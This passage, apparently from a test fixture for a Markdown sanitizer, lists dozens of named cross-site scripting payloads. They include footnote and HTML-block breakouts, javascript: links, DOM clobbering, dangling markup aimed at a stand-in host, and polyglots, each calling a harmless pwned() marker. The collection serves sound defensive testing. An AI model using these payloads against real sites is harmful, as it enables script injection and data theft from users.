    markdown: 'Text[^x"onclick="pwned()].\n\n[^x"onclick="pwned()]: note',
  },
  {
    name: "footnote: javascript link in the note",
    markdown:
      'Text[^j].\n\n[^j]: [back](javascript:pwned()) <a href="javascript:pwned()" class="footnote-backref">\u21a9</a>',
  },
  {
    name: "footnote: prototype label",
    markdown:
      "Text[^__proto__][^constructor].\n\n[^__proto__]: <img src=x onerror=pwned()>\n[^constructor]: <svg onload=pwned()>",
  },
  {
    name: "html block: ended by a blank line",
    markdown: '<div title="\n\n"><img src=x onerror=pwned()>\n\n">',
  },
  {
    name: "html block: attribute spanning paragraphs",
    markdown: "<a title='x\n\n' href=\"javascript:pwned()\">click\n\n</a>",
  },
  {
    name: "html block: tag split by Markdown emphasis",
    markdown:
      "<im*g src=x onerror=pwned()*> <img src=x *onerror=pwned()*> <*script*>pwned()</*script*>",
  },
  {
    name: "html block: tag split over table cells",
    markdown: '| a | b |\n| - | - |\n| <img title=" | " src=x onerror=pwned() x="> |',
  },
  {
    name: "html block: tag split over list items",
    markdown: '- <img title="\n- "src=x onerror=pwned()>',
  },
  {
    name: "html block: tag split over lines in a quote",
    markdown: "> <img\n> src=x\n> onerror=pwned()\n> >",
  },
  { name: "html block: lazy continuation", markdown: '> <a href="\njavascript:pwned()">click</a>' },
  { name: "html block: indented three spaces", markdown: "   <script>pwned()\n   </script>" },
  {
    name: "html block: type 1 block ended by a different tag",
    markdown: "<script>\n</style>\npwned()\n</script>",
  },
  {
    name: "html block: pre opening, script later",
    markdown: "<pre><code\n\n<script>pwned()</script>\n</code></pre>",
  },
  {
    name: "html block: interrupting a paragraph",
    markdown: "paragraph\n<div onclick=pwned()><img src=x onerror=pwned()>\nparagraph",
  },
  {
    name: "html block: closing the host page's containers",
    markdown: "</p></div></article></main></body></html><script>pwned()</script>",
  },
  {
    name: "html block: closing raw-text hosts",
    markdown:
      "</title></style></textarea></noscript></script></template><img src=x onerror=pwned()>",
  },
  { name: "markdown: hard break inside a tag", markdown: "<img src=x  \nonerror=pwned()\\\n>" },
  {
    name: "markdown: smart quotes and replacements",
    markdown:
      "<img src=\u201cx\u201d onerror=\u201cpwned()\u201d> (c) \"<img src=x onerror='pwned()'>\" -- ...",
  },
  {
    name: "markdown: emoji shortcode breakout",
    markdown: ':"><img/src=x/onerror=pwned()>: :smile"onclick="pwned():',
  },
  {
    name: "markdown: abbreviation definition breakout",
    markdown: '*[XSS]: "><img src=x onerror=pwned()>\n\nXSS here',
  },
  {
    name: "markdown: wiki link and mention breakouts",
    markdown:
      '[[javascript:pwned()|x]] [[x"><img src=x onerror=pwned()>]] @"><svg/onload=pwned()> #"><svg/onload=pwned()>',
  },
  {
    name: "markdown: ruby, mark, sub and sup wrappers",
    markdown:
      "==<img src=x onerror=pwned()>== ^<svg/onload=pwned()>^ ~<svg/onload=pwned()>~ ++<svg/onload=pwned()>++",
  },
  {
    name: "markdown: table alignment row breakout",
    markdown:
      '| a" onclick="pwned() | b |\n| :-" onclick="pwned(): | -: |\n| x | <svg onload=pwned()> |',
  },
  {
    name: "markdown: placeholder and replacement-pattern text",
    markdown: "$& $` $' $1 <img src=x onerror=\"pwned()//$'$`\"> %00<svg onload=pwned()>",
  },
  {
    name: "clobber: getElementById",
    markdown:
      "<img name=getElementById src=x onerror=pwned()><img id=querySelector name=querySelector src=x>",
  },
  {
    name: "clobber: document.body",
    markdown: "<form name=body><img name=firstChild src=x onerror=pwned()></form>",
  },
  {
    name: "clobber: document.forms and images",
    markdown:
      '<img name=forms src=x><img name=images src=x onerror=pwned()><form id=forms name=forms action="javascript:pwned()"><button>send</button></form>',
  },
  {
    name: "clobber: form attributes and nodeName",
    markdown:
      "<form onclick=pwned()><input name=attributes><input name=nodeName><input name=parentNode><input name=removeAttribute><img src=x onerror=pwned()></form>",
  },
  {
    name: "clobber: configuration object by anchor collection",
    markdown: '<a id=config></a><a id=config name=url href="javascript:pwned()">click</a>',
  },
  {
    name: "clobber: default scripts source",
    markdown:
      '<a id=currentScript name=currentScript href="data:text/javascript,pwned()">x</a><img name=currentScript src="data:text/javascript,pwned()" onerror=pwned()>',
  },
  {
    name: "clobber: nested iframe srcdoc",
    markdown:
      "<iframe name=config srcdoc=\"<a id=url href='javascript:parent.pwned()'>x</a><script>parent.pwned()</script>\"></iframe>",
  },
  {
    name: "clobber: cookie, location and defaultView",
    markdown:
      "<img name=cookie src=x onerror=pwned()><form id=location name=location action=javascript:pwned()><input id=href name=href value=javascript:pwned()><button>send</button></form><object name=defaultView data=javascript:parent.pwned()></object>",
  },
  {
    name: "clobber: heading that takes a reserved id",
    markdown:
      "# getElementById\n\n# __proto__\n\n# constructor <img id=toString name=valueOf src=x onerror=pwned()>",
  },
  {
    name: "clobber: toString on an anchor used as a URL",
    markdown:
      '<a id=pwnedUrl href="cid:javascript:pwned()//">x</a><area id=pwnedUrl href="javascript:pwned()">',
  },
  {
    name: "dangling: unclosed img source",
    markdown: "<img onerror=pwned() src='https://example.invalid/?",
  },
  {
    name: "dangling: unclosed anchor, quote and handler",
    markdown: "<a href=\"https://example.invalid/?x onclick=pwned() autofocus onfocus='pwned()'",
  },
  {
    name: "dangling: unclosed textarea and form",
    markdown: "<form action=javascript:pwned()><button>send</button><textarea name=x>",
  },
  {
    name: "dangling: unclosed style, select and option",
    markdown:
      "<select><option><img src=x onerror=pwned()> <style>@import 'https://example.invalid/?",
  },
  {
    name: "dangling: unclosed attribute then closing content",
    markdown: '<p title="<img src=x onerror=pwned()> text\n\nparagraph "><svg onload=pwned()>',
  },
  {
    name: "dangling: unclosed entity and tag at the very end",
    markdown: "<svg onload=pwned&lpar;&rpar",
  },
  {
    name: "polyglot: many contexts at once",
    markdown:
      "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned()//>\\x3e",
  },
  {
    name: "polyglot: attribute, tag and Markdown at once",
    markdown:
      '[`"><svg/onload=pwned()>`](javascript:pwned()\'"><svg/onload=pwned()>) !["><svg/onload=pwned()>](x\'"onerror=pwned()>)',
  },
];
